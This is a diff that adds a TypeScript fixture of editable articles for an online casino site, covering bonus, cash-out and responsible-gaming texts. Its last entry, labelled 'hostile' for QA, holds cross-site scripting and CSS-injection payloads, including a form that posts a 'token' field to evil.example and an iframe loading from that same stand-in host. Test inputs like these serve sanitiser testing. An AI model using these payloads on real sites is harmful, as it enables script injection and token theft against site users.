@@ -1,0 +1,55 @@
+import { fileIdOf } from '../catalogue/catalogue';
+
+const picture = (name: string) => `/api/sys/file/get?id=${fileIdOf('article', name)}&width=960&height=320`;
+
+/** Texts the operator edits. `hostile` is what an attacker would write into one, to be looked at by QA. */
+export const articles = [
+  {
+    id: 'welcome',
+    title: 'Your first deposit, doubled',
+    backgroundColor: '#101b3b',
+    fontColor: '#f3f5ff',
+    padding: '24px',
+    content: `<p><img src="${picture('welcome')}" alt="Two crowns over a golden sunrise" width="960" height="320"></p><h1>Your first deposit, doubled</h1><p>Every new member starts with <strong>5.00 of free play</strong>. With the first deposit we add the same amount again, up to 200.</p><h2>How it works</h2><ol><li>Sign up and confirm your email address.</li><li>Deposit 10 or more with any method.</li><li>The bonus is in your balance at once.</li></ol><h2>What you should know</h2><ul><li>One bonus for each member, household and payment method.</li><li>The bonus is wagered before it can be cashed out.</li><li>Promotions run from 00:00 to 23:59 UTC.</li></ul><p>The whole text is in our <a link="/article?id=bonus-rules" href="#/article?id=bonus-rules">bonus rules</a>.</p>`,
+  },
+  {
+    id: 'promotions',
+    title: 'Promotions',
+    backgroundColor: '',
+    fontColor: '',
+    padding: '16px',
+    content: `<h1>Promotions</h1><h2>Monday cashback</h2><p>Every Monday a share of last week’s losses comes back, the more the higher your level. The least amount paid is 1.00.</p><table><thead><tr><th>Level</th><th>Cashback</th><th>Friday bonus</th><th>Minimum deposit</th></tr></thead><tbody><tr><td>Bronze</td><td>5 %</td><td>10</td><td>100</td></tr><tr><td>Silver</td><td>8 %</td><td>20</td><td>150</td></tr><tr><td>Gold</td><td>12 %</td><td>30</td><td>200</td></tr><tr><td>Platinum</td><td>15 %</td><td>40</td><td>250</td></tr><tr><td>Diamond</td><td>20 %</td><td>50</td><td>300</td></tr></tbody></table><h2>Friday bonus</h2><p>Deposit on a Friday and find your bonus beside it.</p>`,
+  },
+  {
+    id: 'withdrawal-rules',
+    title: 'Cash-out rules',
+    backgroundColor: '',
+    fontColor: '',
+    padding: '16px',
+    content: `<h1>Cash-out rules</h1><p>We pay what you have won. To keep it safe on its way we ask for a few things.</p><ol><li>The least amount of a cash-out is 25.</li><li>Requests are handled within 24 to 72 hours.</li><li>Before the first cash-out we check your identity. This takes 1 to 7 business days.</li><li>A bonus must have been wagered before it leaves with the rest.</li></ol><p>Questions? Our support is there day and night.</p>`,
+  },
+  {
+    id: 'bonus-rules',
+    title: 'Bonus rules',
+    backgroundColor: '',
+    fontColor: '',
+    padding: '16px',
+    content: `<h1>Bonus rules</h1><p>Bonuses are for players of 18 years and more who live where we offer our service.</p><ul><li>Free sign-up bonus: 5.00.</li><li>First deposit: 100 % up to 200, from a deposit of 10 on.</li><li>1 point for every 10 wagered.</li></ul>`,
+  },
+  {
+    id: 'responsible-gaming',
+    title: 'Playing responsibly',
+    backgroundColor: '#f6f7fb',
+    fontColor: '#1c2233',
+    padding: '24px',
+    content: `<h1>Playing responsibly</h1><p>Play for fun, with money you can afford to lose. If it is no longer fun, stop.</p><blockquote>Set yourself a limit of time and of money before you begin, and keep to it.</blockquote><p>Our support can set limits for your account or close it, for a time or for good.</p>`,
+  },
+  {
+    id: 'hostile',
+    title: 'Hostile content',
+    backgroundColor: 'red;background-image:url(https://evil.example/x.png)',
+    fontColor: 'expression(alert(1))',
+    padding: '10px;position:fixed',
+    content: `<h1 id="cashier">Only the words may remain</h1><p onclick="alert(1)">This paragraph is <b>harmless</b>.</p><script>alert(1)</script><img src="x" onerror="alert(1)"><a href="javascript:alert(1)">A link that goes nowhere</a><a name="registry"></a><form id="boot" action="https://evil.example"><input name="token"></form><svg><script>alert(1)</script></svg><iframe src="https://evil.example"></iframe><style>body{display:none}</style><p>The end.</p>`,
+  },
+];
